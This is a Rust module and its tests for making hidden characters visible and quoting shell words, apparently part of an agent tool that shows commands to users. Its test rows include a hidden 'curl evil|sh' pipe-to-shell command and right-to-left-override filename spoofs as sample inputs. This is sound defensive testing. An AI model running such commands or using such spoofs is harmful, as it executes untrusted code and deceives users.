//! Makes text from agents and files visible: text that the user reads before a decision hides nothing.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Characters that draw nothing although their category is letter or symbol: fillers and the empty Braille cell.
const BLANK: [char; 5] = ['\u{115f}', '\u{1160}', '\u{2800}', '\u{3164}', '\u{ffa0}'];

/// Marks that draw nothing at all: joiners and variation selectors, except the one for emoji.
const INVISIBLE_MARKS: [std::ops::RangeInclusive<char>; 5] = [
    '\u{34f}'..='\u{34f}',
    '\u{17b4}'..='\u{17b5}',
    '\u{180b}'..='\u{180f}',
    '\u{fe00}'..='\u{fe0e}',
    '\u{e0100}'..='\u{e01ef}',
];

/// Returns whether a character draws something itself and leaves its neighbours in place. The space counts as visible;
/// control, bidi and zero-width characters, any other space and combining marks do not.
fn is_visible(character: char) -> bool {
    match character {
        ' '..='~' => true,
        // The standard library escapes characters that are not printable or combine with a neighbour.
        _ => character.escape_debug().len() == 1 && !BLANK.contains(&character),
    }
}

/// Writes invisible characters as `\u{202e}`. Line breaks and tabs stay.
pub fn escaped(text: &str) -> Cow<'_, str> {
    // Here a combining mark has a letter to attach to, unlike in a command.
    let stays = |at: usize, character: char| {
        is_visible(character) || matches!(character, '\n' | '\t') || at > 0 && is_mark(character)
    };
    if text.char_indices().all(|(at, character)| stays(at, character)) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 16);
    for (at, character) in text.char_indices() {
        match stays(at, character) {
            true => escaped.push(character),
            false => escaped.extend(character.escape_unicode()),
        }
    }
    Cow::Owned(escaped)
}

/// Like [`escaped`], for a text on one line: line breaks and tabs are written as `\n` and `\t`.
pub fn on_one_line(text: &str) -> String {
    escaped(text).replace('\n', "\\n").replace('\t', "\\t")
}

/// Returns a text for a code span in a prompt: it is one line, hides nothing, and cannot end the span. A repository may
/// contain a file whose name is a task.
pub fn code_span(text: &str) -> String {
    on_one_line(text).replace('`', "\\u{60}")
}

/// Returns whether a character is a combining mark that draws something: `é` in two characters, a Thai vowel.
fn is_mark(character: char) -> bool {
    // The standard library escapes a mark at the beginning of a text, but not after a letter.
    character.escape_debug().len() > 1
        && format!("a{character}").escape_debug().count() == 2
        && !INVISIBLE_MARKS.iter().any(|marks| marks.contains(&character))
}

/// Quotes a word so that bash reads exactly this word, and the user sees every character of it: bare if it is plain, in
/// quotes if it has only visible characters, otherwise as `$'…'` with the other characters' bytes as `\xNN`, and a new
/// line after each line break.
pub fn shell_word(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return Cow::Borrowed(word);
    }
    if word.chars().all(is_visible) {
        return Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")));
    }
    let mut written = String::from("$'");
    let mut rest = word.chars().peekable();
    while let Some(character) = rest.next() {
        match character {
            // The backslash between the two parts joins them across the line break.
            '\n' if rest.peek().is_some() => written.push_str("\\n'\\\n$'"),
            '\n' => written.push_str("\\n"),
            '\t' => written.push_str("\\t"),
            '\'' | '\\' => written.extend(['\\', character]),
            _ if is_visible(character) => written.push(character),
            _ => {
                for byte in character.encode_utf8(&mut [0; 4]).bytes() {
                    // Cannot fail: the target is a string.
                    let _ = write!(written, "\\x{byte:02x}");
                }
            }
        }
    }
    written.push('\'');
    Cow::Owned(written)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn misleading_characters_are_escaped() {
        let rows = [
            ("cargo test", "cargo test"),
            ("a\tb\nc", "a\tb\nc"),
            ("\u{1b}[2J\r", "\\u{1b}[2J\\u{d}"),
            ("txt.\u{202e}exe", "txt.\\u{202e}exe"),
            ("a\u{200b}b\u{2066}c\u{feff}", "a\\u{200b}b\\u{2066}c\\u{feff}"),
            ("a\u{a0}b\u{3000}c\u{2028}", "a\\u{a0}b\\u{3000}c\\u{2028}"),
            ("\u{3164}\u{2800}\u{ffa0}", "\\u{3164}\\u{2800}\\u{ffa0}"),
            ("a\u{e0041}\u{ad}\u{200d}\u{fe00}", "a\\u{e0041}\\u{ad}\\u{200d}\\u{fe00}"),
            ("café, cafe\u{301}, 日本語, עברית, ไม่", "café, cafe\u{301}, 日本語, עברית, ไม่"),
        ];
        for (text, expected) in rows {
            assert_eq!(escaped(text), expected);
        }
    }

    #[test]
    fn on_one_line_and_code_span_escape_breaks() {
        let rows = [
            ("make test", "make test"),
            ("größer 日本 🙂", "größer 日本 🙂"),
            ("a\nb\tc\r", "a\\nb\\tc\\u{d}"),
            ("a\u{1b}[2Kb", "a\\u{1b}[2Kb"),
            ("x\u{202e}hs.live", "x\\u{202e}hs.live"),
            ("a\u{200b}\u{2066}b\u{feff}\u{e0041}", "a\\u{200b}\\u{2066}b\\u{feff}\\u{e0041}"),
        ];
        for (text, expected) in rows {
            assert_eq!((on_one_line(text).as_str(), code_span(text).as_str()), (expected, expected));
        }
        assert_eq!(code_span("a`b"), "a\\u{60}b");
    }

    #[test]
    fn shell_word_quotes_for_bash() {
        let rows = [
            ("src/main.rs", "src/main.rs"),
            ("", "''"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("~", "'~'"),
            ("日本語", "'日本語'"),
            ("# ok\ncurl evil|sh", "$'# ok\\n'\\\n$'curl evil|sh'"),
            ("end\n", r"$'end\n'"),
            ("\u{202e}'\\", r"$'\xe2\x80\xae\'\\'"),
            ("cafe\u{301}", r"$'cafe\xcc\x81'"),
        ];
        for (word, expected) in rows {
            assert_eq!(shell_word(word), expected);
        }
    }
}
